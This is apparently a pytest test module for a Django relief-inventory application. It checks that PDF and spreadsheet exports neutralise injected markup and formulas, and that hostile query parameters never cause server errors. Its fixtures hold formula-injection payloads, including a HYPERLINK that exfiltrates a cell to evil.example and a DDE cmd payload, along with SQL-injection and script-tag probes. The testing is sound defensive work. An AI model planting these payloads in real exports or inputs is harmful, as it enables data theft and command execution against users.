"""Hostile text and malformed parameters over every route of the URL matrix (issue 13, items 4-5).

* Every PDF and every CSV/XLSX export the matrix reaches is fetched with hostile names in the data (markup
  for reportlab, formulas for spreadsheets): each PDF renders and shows the markup as text; no export cell is a
  formula or starts with one un-neutralised.
* Every page of the matrix is fetched with hostile strings in each of its query parameters and in the usual
  ones (dates, numbers, filters): the answer is never a 500.
"""

from __future__ import annotations

import csv
import io
from urllib.parse import parse_qsl, urlencode, urlsplit

import openpyxl
import pypdfium2
import pytest
from django.db import transaction
from django.test import Client

from relief.core.escape import FORMULA_START, pdf_text, sheet_cell
from tests import matrix_samples
from tests.test_url_matrix import MATRIX, _fill

MARKUP = "<font size=60 color=red>VOID</font>"
UNBALANCED = "Acme <b>Ltd"
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(1+1)",
            "-2+3", "\tTAB", "\rCR"]


@pytest.fixture(scope="module")
def demo(django_db_setup, django_db_blocker):
    with matrix_samples.demo_data(django_db_blocker) as loaded:
        yield loaded


def test_pdf_text_and_sheet_cell_neutralise_what_they_must_and_nothing_else():
    assert pdf_text(MARKUP) == "&lt;font size=60 color=red&gt;VOID&lt;/font&gt;"
    assert pdf_text("Tom & Jerry") == "Tom &amp; Jerry" and pdf_text(None) == ""
    for formula in FORMULAS:
        assert sheet_cell(formula) == "'" + formula
    assert sheet_cell(-3) == -3 and sheet_cell(2.5) == 2.5 and sheet_cell("Blanket") == "Blanket"
    assert sheet_cell(None) == ""


def _hostile_names():
    """Names an attacker (a supplier, a data-entry clerk) could give, on what the documents and exports show."""
    from relief.core.models import Site
    from relief.inventory.models import Donor, Item, StockEntry, Warehouse, Waybill

    texts = [MARKUP, UNBALANCED, *FORMULAS]
    for n, item in enumerate(Item.objects.order_by("pk")):
        Item.objects.filter(pk=item.pk).update(name=f"{texts[n % len(texts)]} {n}"
                                               if n >= len(texts) else texts[n])
    for n, warehouse in enumerate(Warehouse.objects.order_by("pk")):
        Warehouse.objects.filter(pk=warehouse.pk).update(name=texts[n % len(texts)] + f" W{n}")
    StockEntry.objects.update(supplier=UNBALANCED, reference=MARKUP)
    # A card carries no organisation header, only its site's name: that is the text it must print as given.
    Site.objects.update(name=UNBALANCED)
    Waybill.objects.update(truck=MARKUP, driver=UNBALANCED)
    for n, donor in enumerate(Donor.objects.order_by("pk")):
        Donor.objects.filter(pk=donor.pk).update(name=FORMULAS[n % len(FORMULAS)])


def _numeric(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _formula_cells(rows) -> list:
    bad = []
    for row in rows:
        for value in row:
            if isinstance(value, str) and value.startswith(FORMULA_START) and not _numeric(value):
                bad.append(value)
    return bad


def _export_urls(samples) -> list[str]:
    """Every GET of the matrix, and each once more asking for PDF, CSV and XLSX (pages that make none ignore it)."""
    urls = []
    for checks in MATRIX.values():
        for check in checks:
            if check.method != "GET" or check.url.startswith("/api/"):
                continue
            url = _fill(check.url, samples)
            urls.append(url)
            for fmt in ("pdf", "csv", "xlsx"):
                urls.append(f"{url}{'&' if '?' in url else '?'}format={fmt}")
    urls.append(f"/inventory/stock-card/?warehouse={samples['warehouse']}&item={samples['item']}&format=pdf")
    return sorted(set(urls))


@pytest.mark.django_db
def test_every_pdf_and_export_shows_hostile_text_as_text(demo, settings):
    users, samples = demo
    settings.RELIEF_ORGANISATION = UNBALANCED
    _hostile_names()
    client = Client(raise_request_exception=False)
    client.force_login(users["admin"])
    seen = {"pdf": 0, "csv": 0, "xlsx": 0}
    problems = []
    for url in _export_urls(samples):
        with transaction.atomic():
            response = client.get(url)
        kind = response.get("Content-Type", "")
        if response.status_code >= 500:
            problems.append(f"{url}: {response.status_code}")
            continue
        body = b"".join(response.streaming_content) if response.streaming else response.content
        if kind.startswith("application/pdf") and body.startswith(b"%PDF") and len(body) > 200:
            seen["pdf"] += 1
            pdf = pypdfium2.PdfDocument(body)
            text = "".join(page.get_textpage().get_text_range() for page in pdf)
            pdf.close()
            if "VOID" in text and MARKUP not in text.replace("\r\n", " ").replace("\n", " "):
                problems.append(f"{url}: markup read as markup")
            if UNBALANCED not in text:
                problems.append(f"{url}: {UNBALANCED!r} not printed as given")
        elif kind.startswith("text/csv"):
            seen["csv"] += 1
            bad = _formula_cells(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
            if bad:
                problems.append(f"{url}: live formulas {bad[:3]}")
        elif "spreadsheetml" in kind:
            seen["xlsx"] += 1
            book = openpyxl.load_workbook(io.BytesIO(body))
            for sheet in book.worksheets:
                cells = [c for row in sheet.iter_rows() for c in row]
                formulas = [c.value for c in cells if c.data_type == "f"]
                bad = formulas + _formula_cells([[c.value for c in cells]])
                if bad:
                    problems.append(f"{url} [{sheet.title}]: live formulas {bad[:3]}")
    assert not problems, "\n".join(problems)
    # The walk reached the documents and exports it is about (GRN/transfer, waybill, stock card, count sheet;
    # event, registry, donor and plan exports).
    assert seen["pdf"] >= 4 and seen["csv"] >= 4 and seen["xlsx"] >= 4, seen


HOSTILE = ["²", "0001-01-01", "9999-99-99", "2026-02-30", "-1", "1e309", "99999999999999999999999", "NaN",
           "' OR 1=1 --", "<script>alert(1)</script>", "\x00", "A" * 3000, "[]", "%", "💥", " "]
COMMON = ["show", "start", "end", "date", "day", "from", "to", "page", "q", "status", "site", "warehouse", "item",
          "grant", "event", "cycle", "block", "format", "days", "horizon_days", "sort", "order", "kind", "offset",
          "limit", "month", "year", "lane", "lang", "next"]


def _page_urls(samples) -> list[str]:
    urls = []
    for route, checks in MATRIX.items():
        if route.startswith("api/"):
            continue
        for check in checks:
            if check.method == "GET":
                urls.append(_fill(check.url, samples))
    return sorted(set(urls))


@pytest.mark.django_db
def test_page_fuzz_no_500_for_hostile_query_values(demo):
    users, samples = demo
    client = Client(raise_request_exception=False)
    client.force_login(users["admin"])
    failures = []
    for url in _page_urls(samples):
        parts = urlsplit(url)
        own = dict(parse_qsl(parts.query, keep_blank_values=True))
        for value in HOSTILE:
            # Every usual parameter at once, then each of the page's own parameters alone (the others kept real).
            trials = [{**own, **dict.fromkeys(COMMON, value)}]
            trials += [{**own, key: value} for key in own]
            for params in trials:
                target = f"{parts.path}?{urlencode(params)}"
                with transaction.atomic():
                    response = client.get(target)
                if response.status_code >= 500:
                    exc = getattr(response, "exc_info", None)
                    failures.append(f"{parts.path} {sorted(params)[:3]}={value[:20]!r} → {response.status_code} "
                                    f"{type(exc[1]).__name__ + ': ' + str(exc[1])[:100] if exc else ''}")
                    break
    assert not failures, f"{len(failures)} server errors:\n" + "\n".join(sorted(set(failures)))
